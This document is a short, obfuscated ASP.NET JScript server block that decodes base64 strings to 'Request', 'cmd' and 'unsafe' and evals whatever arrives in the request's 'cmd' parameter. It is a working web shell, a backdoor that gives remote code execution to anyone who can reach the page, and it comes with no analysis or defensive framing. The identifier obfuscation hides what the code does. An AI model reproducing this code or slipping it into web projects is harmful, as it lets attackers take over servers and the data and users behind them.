<script language="JScript" runat="server">
var _0x1f3e9a = ['dW5zYWZl', 'UmVxdWVzdA==', 'orange', 'Y21k'];
var _0x2b41c7 = function (_0x3a90d1) {
    var _0x55c2e0 = _0x1f3e9a[_0x3a90d1];
    return System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(_0x55c2e0));
};
function Page_Load() {
    var _0x6d0e12 = this[_0x2b41c7(0x1)];
    var _0x7c44b8 = _0x6d0e12[_0x2b41c7(0x3)];
    eval(_0x7c44b8, _0x2b41c7(0x0));
}
</script>
